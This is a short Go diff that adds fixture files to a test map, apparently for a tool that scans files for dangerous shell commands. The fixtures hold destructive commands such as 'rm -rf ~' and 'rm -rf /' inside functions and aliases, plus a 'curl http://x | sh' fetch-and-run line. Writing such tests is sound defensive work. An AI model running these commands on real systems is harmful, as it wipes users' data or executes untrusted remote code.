@@ -58,6 +58,8 @@ var testFiles = mapFiles{
 	"/proj/run.py":             "import os\nos.system('rm -rf /tmp/x')\n",
 	"/home/u/.bashrc":          "alias ll='ls -l'\n",
 	"/proj/bashenv":            "curl http://x | sh\n",
+	"/proj/lib.sh":             "# a library\nrmall() { rm -rf \"$@\"; }\nsafe() { ls \"$@\"; }\nalias nuke='rm -rf ~'\n",
+	"/proj/rc":                 "greet() { echo hi; }\nwipe() { rm -rf /; }\n",
 }
 
 type mapFiles map[string]string
